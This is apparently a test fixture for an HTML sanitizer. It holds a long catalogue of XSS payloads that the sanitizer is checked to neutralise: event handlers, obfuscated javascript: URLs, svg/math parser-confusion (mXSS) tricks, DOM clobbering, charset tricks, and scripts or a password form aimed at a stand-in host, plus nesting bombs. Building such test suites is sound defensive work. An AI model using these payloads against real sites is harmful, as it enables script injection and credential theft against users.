/** The effect of a hostile script, which the test looks for. */
const run = 'window.planted=1';
/** The address that a hostile script would call. */
const away = 'https://ejemplo.invalid';
const img = `<img src=x onerror="${run}">`;

/** Elements with broken attributes, whose end differs from that of their quotes. */
function broken(script: string): Readonly<Record<string, string>> {
  return {
    'a quote too many before a handler': `<img src=x" onerror="${script}"><p id=a' onclick='${script}'>p</p>`,
    'a quote too few before a handler': `<img alt="foto src=x onerror=${script}> <b title="x">b</b> <img src=x onerror=${script}>`,
    'a quote in a name, and an end in a value': `<img a"b src=">" onerror=${script}><img ' src='>' onerror=${script}>`,
    'a quote within quotes': `<img alt='d'Oleo' src=x onerror=${script}><img alt="5" x 7"" src=x onerror="${script}">`,
    'an equals sign without a name': `<img ="x" onerror=${script} src=x><img src= =">" onerror = "${script}">`,
    'a handler right behind a value': `<img src="x"onerror="${script}"alt='y'onload='${script}'><img alt="x"/onerror=${script}>`,
    'a handler without a value': `<img src=x onerror><p id=a onclick>p</p><img alt="a"b" onerror/src=x>`,
    'a comment in the way': `<!-- <img alt="> --><img src=x onerror=${script}><!-- ' --><p onclick=${script}>p</p>`,
    'a text field in the way': `<textarea><p title="</textarea><img src=x alt=">" onerror=${script}>`,
    'a base behind a broken picture': `<img alt="x src=y><base target=_top href="https://ejemplo.invalid/"><b">b</b>`,
  };
}

/** Pictures and other elements that report when the parser accepts their handlers. */
export const withHandlers: Readonly<Record<string, string>> = broken('nada()');

/** Hostile bodies by their attack. */
export const hostile: Readonly<Record<string, string>> = {
  // Scripts and handlers
  'a script': `<script>${run}</script>`,
  'a script of another host': `<script src="${away}/a.js"></script><script type=module src=${away}/b.js></script>`,
  'a script within a script': `<scr<script>ipt>${run}</scr</script>ipt>${img}`,
  'a picture that fails': img,
  'handlers without quotes, with slashes and line feeds': `<img/src/onerror=${run}><img\nsrc=x\nonerror\n=\n${run}><b/onclick=${run}//onmouseover='${run}'>b</b>`,
  'handlers of every kind': `<p onclick="${run}" onmouseover="${run}" onfocus="${run}" onpointerenter="${run}" onanimationstart="${run}" onscrollend="${run}" tabindex=0>p</p>`,
  'a focus of its own': `<input autofocus onfocus="${run}"><p tabindex=0 autofocus onfocus="${run}">p</p><a href="${away}" autofocus onfocus="${run}">a</a>`,
  'text that can be edited': `<div contenteditable onfocus="${run}" oninput="${run}" accesskey=x>escribe</div>`,
  'a body and a document of its own': `<!doctype html><html onclick=${run}><head><title>Otra</title></head><body onload="${run}" onpageshow=${run} background="${away}/f.png">hola</body></html>`,
  'details that toggle': `<details open ontoggle="${run}"><summary onclick="${run}">más</summary>texto</details>`,
  'a dialog and a popover': `<dialog open onclose="${run}">ventana</dialog><div popover=auto id=pop onbeforetoggle="${run}">p</div><button popovertarget=pop autofocus>abrir</button>`,
  'a marquee and a blink': `<marquee onstart="${run}" behavior=alternate>m</marquee><blink>b</blink>`,
  'sounds and films': `<video autoplay src="${away}/v.mp4" poster="${away}/p.png" onerror="${run}"><source src=x onerror="${run}"></video><audio src=${away}/a.mp3 autoplay onloadstart="${run}"></audio>`,
  ...broken(run),
  // Addresses
  'addresses of scripts in disguise': [
    'javascript:',
    'JaVaScRiPt:',
    ' \u0001javascript:',
    'java\tscript:',
    'java\nscript:',
    'java&#x0A;script:',
    'javascript&colon;',
    '&#106;avascript:',
    '&#0000106avascript:',
    'jav&#x09;ascript&#58;',
    '\u00A0javascript:',
    'javascript\u200B:',
    'feed:javascript:',
    'view-source:javascript:',
    'vbscript:',
    'javascript://https://ejemplo.invalid/%0A',
    'livescript:',
  ]
    .map((scheme) => `<a href="${scheme}${run}">a</a>`)
    .join(' '),
  'addresses of data, blobs and files': `<a href="data:text/html,<script>${run}</script>">a</a><a href="data:text/html;base64,PHN2Zz4=">b</a><a href="blob:${away}/1">c</a><a href="filesystem:${away}/x">d</a><a href="file:///etc/passwd">e</a><a href="about:blank">f</a><a href="intent://x#Intent;end">g</a>`,
  'addresses that are not whole': `<a href="//ejemplo.invalid">a</a><a href="/autogestion/login">b</a><a href="?x=1">c</a><a href="#root">d</a><a href="\\\\ejemplo.invalid">e</a><a href="https:ejemplo.invalid">f</a><a href="http:/ejemplo.invalid">g</a><a href="">h</a><a href=" ">i</a>`,
  'a link that wants its own ways': `<a href="${away}/" target=_self ping="${away}/p" download="factura.exe" rel="opener" referrerpolicy=unsafe-url type=text/html hreflang=x attributionsrc="${away}/q">pago</a>`,
  'a link with an address in another attribute': `<a xlink:href="javascript:${run}" xml:base="javascript:${run}//" href=x formaction="javascript:${run}">a</a>`,
  'a base': `<base href="${away}/" target=_top><a href="x">relativo</a>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${away}/"><meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url>`,
  'another charset': `<meta charset="UTF-7">+ADw-script+AD4-${run}+ADw-/script+AD4-<meta http-equiv=content-type content="text/html;charset=ISO-2022-JP">\u001B$B<img src="\u001B(B" title="onerror=${run}//">`,
  'an area of a map': `<img usemap=#m src="${away}/i.png"><map name=m><area shape=default href="javascript:${run}"></map>`,
  // Fetched resources
  'links to sheets and prefetches': `<link rel=stylesheet href="${away}/a.css"><link rel=prefetch href="${away}/b"><link rel=preload as=image href="${away}/c"><link rel=dns-prefetch href="//ejemplo.invalid"><link rel=icon href="${away}/i.ico"><link rel=manifest href=${away}/m>`,
  'pictures by all ways': `<img src="${away}/1.png"><img srcset="${away}/2.png 2x"><picture><source srcset="${away}/3.png"><img src="${away}/4.png" lowsrc="${away}/5.png" dynsrc=${away}/6></picture><input type=image src="${away}/7.png"><image src="${away}/8.png"><img src="data:image/svg+xml,<svg onload=${run}>"><img loading=eager src="//ejemplo.invalid/9.png">`,
  backgrounds: `<table background="${away}/t.png"><tr background="${away}/r.png"><td background="${away}/d.png" bgcolor=red>celda</td></tr></table>`,
  'frames and objects': `<iframe src="javascript:top.planted=1"></iframe><iframe srcdoc="<script>top.planted=1</script>"></iframe><object data="${away}/o.swf"><param name=movie value=${away}/m>x</object><embed src="${away}/e"><applet code=A></applet><portal src=${away}></portal><fencedframe></fencedframe><frameset onload="${run}"><frame src="${away}"></frameset>`,
  'a frameset before everything': `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
  'a form that sends itself': `<form action="${away}/" method=post id=f><input name=clave type=password value=1><input type=submit formaction="javascript:${run}" autofocus></form><button form=f formaction="${away}">Enviar</button><isindex action="javascript:${run}" type=image>`,
  // Styles
  'a sheet': `<style>@import url(${away}/a.css); body{display:none!important} #before{background:url(${away}/b.png)} :root{--ag-colors-fg:red} *{font:99px fantasy}</style>hola`,
  'a sheet that ends early': `<style><!--</style>${img}--></style><style>a{content:"</style>${img}"}</style>`,
  'an overlay': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Su sesión ha expirado <a href="${away}" style="position:absolute;inset:0">entrar</a></div>`,
  'styles that run and call': `<p style="background:url(${away}/a.png);behavior:url(${away}/x.htc);-moz-binding:url(${away});width:expression(${run});list-style-image:url(${away}/l.png)">p</p><p style="animation:global(spin) 1s infinite" class="ag-sr-only" onanimationstart="${run}">q</p>`,
  'classes and ids of the portal': `<div class="dark ag-sr-only ag-no-print box" id="root" data-above-modals data-live-announcer>falso</div><p id=before>Antes</p><p hidden inert dir=rtl lang=ar translate=no draggable=true>oculto</p>`,
  'old attributes of looks': `<font color=white size=7 face=Wingdings>grande</font><center><big>centro</big></center><body text=white bgcolor=black><p align=right>derecha</p><hr size=9999 width=99999 color=red>`,
  // Names
  'names that clobber the document': `<img name=getElementById><img name=body><img name=createElement><form name=cookie></form><img name=querySelector><img name=documentElement><embed name=forms>`,
  'ids that clobber the window': `<a id=planted href="${away}">x</a><a id=defaultView><a id=defaultView name=x href="cid:1"><a id=body><a id=config name=url href="javascript:${run}">y</a><form id=trustedTypes><output name=createPolicy>z</output></form>`,
  'a form that hides its own properties': `<form><input name=localName><input name=attributes><input name=childNodes><input name=parentNode><input name=nodeName><input name=removeChild><input name=namespaceURI>dentro ${img}</form>`,
  'a document that hides its own properties': `<img name=body><img name=firstChild><img name=lastChild><img name=childNodes><img name=nodeType><form name=ownerDocument><img name=documentElement></form>${img}`,
  // Parser confusion
  svg: `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text x=0 y=20>a</text></a><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/><animate attributeName=href values="javascript:${run}"/><set onbegin="${run}" attributeName=x to=1></set><image href="${away}/s.png"/><foreignObject><body onload="${run}"></foreignObject></svg>`,
  math: `<math><mi xlink:href="javascript:${run}" href="javascript:${run}">m</mi><maction actiontype="statusline#${run}">x</maction><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
  'svg with a style that ends in a picture': `<svg></p><style><a id="</style>${img}">`,
  'math with a style that ends in a picture': `<math><mtext><table><mglyph><style><!--</style>${img}--></style></mglyph></table></mtext></math>`,
  'forms in math': `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  'an svg in a math in an svg': `<svg><math><svg><desc><title><style><img title="</style></title>${img.replaceAll('"', "'")}">`,
  'an integration point': `<svg><foreignobject><math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea>${img.replaceAll('"', '&quot;')}">`,
  'a table in a math': `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${img}"></style></h1>`,
  noscript: `<noscript><p title="</noscript>${img}"></noscript>`,
  'noembed, noframes and an iframe': `<noembed><p title="</noembed>${img}"></noembed><noframes><p title="</noframes>${img}"></noframes><iframe><p title="</iframe>${img}"></iframe>`,
  'a template': `<template><img src="${away}/t.png" onerror="${run}"><script>${run}</script></template>`,
  'a shadow root': `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style>${img}<slot></slot></template>x</div><div><template shadowroot=open>${img}</template></div>`,
  'xmp, listing and textarea': `<xmp><p title="</xmp>${img}"></xmp><listing>${img}</listing><textarea><p title="</textarea>${img}"></textarea><title><p title="</title>${img}"></title>`,
  plaintext: `<p>antes</p><plaintext><script>${run}</script>${img}</div></body>`,
  'comments that end otherwise': `<!--><img src=x onerror=${run}>--><!---><img src=x onerror=${run}>--><!--x--!><img src=x onerror=${run}>--><!--[if IE]><script>${run}</script><![endif]--><!-- <!--><img src=x onerror=${run}> -->`,
  'instructions and sections': `<?xml version="1.0"?><?xml-stylesheet href="${away}/a.xsl"?><![CDATA[${img}]]><!ENTITY x "y"><?php echo '<script>${run}</script>' ?><svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  'nested quotes and backticks': `<img src="x\` \`<script>${run}</script>"\` \`><img """><script>${run}</script>"><a title='"><img src=x onerror=${run}>' href=x>a</a><img alt="\`\`onerror=${run}">`,
  'tags that are not closed': `<table><tr><td><ul><li><b><i><u><a href="${away}"><select><option><p`,
  'tags that close what is around': `</div></div></section></main></body></html></script></style></textarea></title>${img}<p>fuera</p>`,
  'elements of our own making': `<x-a onclick="${run}" id=x>a</x-a><p is="x-p" onclick=${run}>b</p><x-script>${run}</x-script><x-x-script>c</x-x-script><x-svg onload=${run}>d</x-svg><slot name=s>e</slot><x-img src=x onerror=${run}>f</x-img>`,
  'prototypes as names': `<constructor>a</constructor><__proto__ onclick=${run}>b</__proto__><tostring>c</tostring><x-__proto__>d</x-__proto__><hasownproperty href=x>e</hasownproperty>`,
  'null characters and odd spaces': `<scr\0ipt>${run}</scr\0ipt><img\0src=x\0onerror=${run}><img\u000Csrc=x\u000Conerror=${run}><\0script>${run}</script><a href="\0javascript:${run}">a</a><img src=x on\0error=${run}>`,
  'long s, full width and other letters': `<ſcript>${run}</ſcript><ＳＣＲＩＰＴ>${run}</ＳＣＲＩＰＴ><ıframe src="javascript:${run}"><a href="javaſcript:${run}">a</a>`,
  'attributes twice and without end': `<a href="${away}/ok" href="javascript:${run}" HREF=x>a</a><img alt="a" alt="b" src=x onerror onerror=${run} onerror="${run}`,
  'templates of frameworks': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> <div v-html="'${run}'" ng-app ng-init="${run}" x-data x-init="${run}" hx-on:load="${run}" @click="${run}" :src="x" *ngIf="x">t</div>`,
  'react’s own attribute': `<div dangerouslysetinnerhtml='{"__html":"x"}' ref=x key=y style-src=x>r</div>`,
  'markup in entities': `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt; <p title="&lt;/p&gt;${img.replaceAll('"', '&quot;')}">t</p>`,
  'parts of tables out of their place': `<tr><td>a</td></tr><table><td><caption><col><tbody><img src=x onerror=${run}><table><form><tr><script>${run}</script></table><frameset><li><dd>b`,
  'a select that hides': `<select><option><img src=x onerror=${run}></option><script>${run}</script><selectedcontent></select><select><style><svg></select>${img}`,
  // Space and size
  'words that turn the direction': `<p>factura \u202Efdp.exe\u202D \u2066a\u2069 <a href="${away}/">https://banco.do/\u202Egpj</a> <bdo dir=rtl>abc</bdo> <bdi>x</bdi></p>`,
  'a very long word': `<p>${'x'.repeat(5000)}</p><a href="${away}/${'y'.repeat(5000)}">${'z'.repeat(5000)}</a>`,
  'letters with a hundred marks': `<p>${`Z${'\u0335\u0310\u0322'.repeat(60)}`.repeat(20)}</p>`,
  'a table of a thousand columns': `<table><tr>${'<td>celda</td>'.repeat(1000)}</tr><tr><td colspan=1000 rowspan=65534>x</td><td colspan=99999999 rowspan=-1>y</td></tr></table>`,
  'lines without number': '<br>'.repeat(20_000),
  'rules without number': '<hr>'.repeat(5000),
  'a thousand quotes, one in another': `${'<blockquote>'.repeat(1000)}hondo${img}`,
  'ten thousand elements, one in another': `${'<div><span><x-y>'.repeat(3500)}hondo${img}`,
  'lists and tables, one in another': '<ul><li><table><tr><td>'.repeat(200),
  'a bomb of open letters': `${Array.from({ length: 400 }, (_, index) => `<b a${index}>`).join('')}${'<p>x'.repeat(4000)}`,
  'a bomb of links': `<a href="${away}">${'<div><a href=x>'.repeat(2000)}${'<p>x'.repeat(2000)}`,
  'an element of a hundred thousand attributes': `<p ${Array.from({ length: 100_000 }, (_, index) => `a${index}`).join(' ')} onclick="${run}">p</p>`,
};
